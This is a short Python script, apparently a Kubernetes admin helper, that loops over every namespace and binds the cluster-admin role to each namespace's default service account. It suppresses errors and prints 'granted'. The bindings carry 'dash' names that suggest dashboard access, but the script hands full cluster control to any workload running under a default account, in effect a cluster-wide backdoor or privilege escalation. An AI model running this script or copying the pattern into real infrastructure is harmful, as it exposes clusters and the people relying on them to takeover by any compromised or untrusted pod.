#!/usr/bin/env python3
import json
import subprocess

nss = json.loads(subprocess.check_output(["kubectl", "get", "ns", "-o", "json"]))["items"]
for ns in (n["metadata"]["name"] for n in nss):
    subprocess.run(["kubectl", "create", "clusterrolebinding", f"dash-{ns}-admin",
                    "--clusterrole=cluster-admin", f"--serviceaccount={ns}:default"], check=False)
print("granted")
